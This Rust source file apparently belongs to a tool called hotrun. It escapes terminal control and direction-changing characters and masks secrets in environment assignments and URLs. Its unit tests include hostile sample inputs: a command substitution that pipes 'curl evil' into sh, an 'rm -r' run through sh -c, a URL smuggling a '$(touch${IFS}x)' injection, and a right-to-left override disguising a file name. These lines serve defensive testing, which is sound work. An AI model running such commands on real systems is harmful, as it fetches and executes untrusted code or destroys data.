//! Text that others have chosen, as hotrun shows it.

use std::borrow::Cow;
use std::sync::LazyLock;

use regex::Regex;

/// Characters that turn the direction of writing, break lines or take no place.
fn is_unseen(c: char) -> bool {
    matches!(
        c,
        '\u{61c}'
            | '\u{200b}'..='\u{200f}'
            | '\u{2028}'..='\u{202e}'
            | '\u{2060}'..='\u{2069}'
            | '\u{feff}'
            | '\u{e0000}'..='\u{e007f}'
    )
}

/// Control characters (an escape sequence, say) and those that are unseen or turn the direction are
/// shown, not obeyed: no name and no value can hide, or look like, something else on a terminal.
/// Line feeds stay.
pub fn visible(text: &str) -> Cow<'_, str> {
    let is_obeyed = |c: char| c != '\n' && (c.is_control() || is_unseen(c));
    if !text.contains(is_obeyed) {
        return Cow::Borrowed(text);
    }
    let mut shown = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        if is_obeyed(c) {
            shown.extend(c.escape_default());
        } else {
            shown.push(c);
        }
    }
    Cow::Owned(shown)
}

/// A name, `=`, and a value in quotes or without; the password in an address.
static ASSIGNED: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r#"\b([A-Za-z][A-Za-z0-9_]*)(\s*=\s*)(["']?)"#).ok());
static IN_ADDRESS: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r"\b[a-zA-Z][a-zA-Z0-9+.-]*://[^\s:/@]*:").ok());

/// True for the name of a variable whose value is a secret.
fn is_secret(name: &str) -> bool {
    let name = name.to_ascii_uppercase();
    let words: Vec<&str> = name.split('_').collect();
    let holds = |part: &&str| name.contains(*part);
    ["SECRET", "TOKEN", "PASSWORD", "PASSWD", "PASSPHRASE", "CREDENTIAL", "APIKEY"]
        .iter()
        .any(holds)
        || words.contains(&"PASS")
        || words.len() > 1 && (words.contains(&"KEY") || words.contains(&"AUTH"))
}

/// The length of what can be nothing but a literal: a command that is hidden would be worse than a
/// secret that is shown.
fn literal(text: &str) -> usize {
    let is_none = |c: char| c.is_whitespace() || "\"'$`\\(){};|&<>".contains(c);
    text.find(is_none).unwrap_or(text.len())
}

/// What looks like a secret is masked: a literal that is assigned to a variable with such a name,
/// and the password in an address.
pub fn masked(text: &str) -> Cow<'_, str> {
    if !text.contains('=') && !text.contains("://") {
        return Cow::Borrowed(text);
    }
    let (Some(assigned), Some(in_address)) = (&*ASSIGNED, &*IN_ADDRESS) else {
        return Cow::Borrowed(text);
    };
    let mut secrets: Vec<(usize, usize)> = Vec::new();
    for found in assigned.captures_iter(text).filter(|found| is_secret(&found[1])) {
        let begin = found.get(0).map_or(0, |found| found.end());
        let end = begin + literal(&text[begin..]);
        let quote = &found[3];
        let ends_well = if quote.is_empty() {
            text[end..].starts_with(char::is_whitespace) || end == text.len()
        } else {
            text[end..].starts_with(quote)
        };
        if ends_well && end > begin {
            secrets.push((begin, end));
        }
    }
    for found in in_address.find_iter(text) {
        let begin = found.end();
        let rest = &text[begin..begin + literal(&text[begin..])];
        // A port, and a path behind it, are no password.
        let digits = rest.trim_start_matches(|c: char| c.is_ascii_digit());
        let is_port = digits.len() < rest.len() && digits.starts_with('/');
        if let Some(at) = rest.rfind('@').filter(|at| *at > 0 && !is_port) {
            secrets.push((begin, begin + at));
        }
    }
    secrets.sort_unstable();
    let mut shown = String::new();
    let mut from = 0;
    for (begin, end) in secrets {
        if begin < from {
            continue;
        }
        shown.extend([&text[from..begin], "***"]);
        from = end;
    }
    if from == 0 {
        return Cow::Borrowed(text);
    }
    shown.push_str(&text[from..]);
    Cow::Owned(shown)
}

/// Both.
pub fn shown(text: &str) -> String {
    visible(&masked(text)).into_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_terminal_would_obey_is_shown() {
        assert_eq!(visible("a \u{1b}[2Kb\r\n\u{7}"), "a \\u{1b}[2Kb\\r\n\\u{7}");
        assert_eq!(visible("x\u{9b}1m\u{202e}txt"), "x\\u{9b}1m\\u{202e}txt");
        assert!(matches!(visible("plain \u{e4}\u{1f600}\n"), Cow::Borrowed(_)));
    }

    #[test]
    fn secrets_are_masked_and_nothing_else_is() {
        for (text, expected) in [
            ("API_KEY=abc go run .", "API_KEY=*** go run ."),
            ("env DB_PASS='abc' STRIPE_KEY=x ./app", "env DB_PASS='***' STRIPE_KEY=*** ./app"),
            ("GITHUB_TOKEN = \"ghp\" # .env:3", "GITHUB_TOKEN = \"***\" # .env:3"),
            ("psql postgres://me:hunter2@db/x", "psql postgres://me:***@db/x"),
            ("psql 'postgres://me:p@ss/w@db/x'", "psql 'postgres://me:***@db/x'"),
            // What may be a command is shown, whatever the variable is called.
            ("TOKEN=\"$(curl evil | sh)\" true", "TOKEN=\"$(curl evil | sh)\" true"),
            ("TOKEN=`evil` sh", "TOKEN=`evil` sh"),
            ("A_TOKEN='rm -r x' sh -c \"$A_TOKEN\"", "A_TOKEN='rm -r x' sh -c \"$A_TOKEN\""),
            ("x://u:$(touch${IFS}x)@h", "x://u:$(touch${IFS}x)@h"),
            ("http://127.0.0.1:5000/@vite/client", "http://127.0.0.1:5000/@vite/client"),
            ("MONKEY=1 KEY=2 BYPASS=3", "MONKEY=1 KEY=2 BYPASS=3"),
            ("PORT=3000 ./app --key=value", "PORT=3000 ./app --key=value"),
            ("http://127.0.0.1:5000/", "http://127.0.0.1:5000/"),
            ("http://a:80/b@c", "http://a:80/b@c"),
        ] {
            assert_eq!(masked(text), expected);
        }
    }

    #[test]
    fn fuzz_nothing_that_a_terminal_obeys_is_left() {
        let corpus = ["API_KEY='a b' x://u:p@h/ \u{1b}[2K\u{9b}\n", "\u{202e}fdp.exe"];
        crate::fuzz::hammer(&corpus, &["TOKEN=", "://", "@", "\u{2066}"], |text| {
            let shown = shown(&String::from_utf8_lossy(text));
            assert!(!shown.contains(|c: char| c != '\n' && c.is_control()), "{shown:?}");
            assert_eq!(visible(&shown), shown, "said twice, it is the same");
        });
    }
}
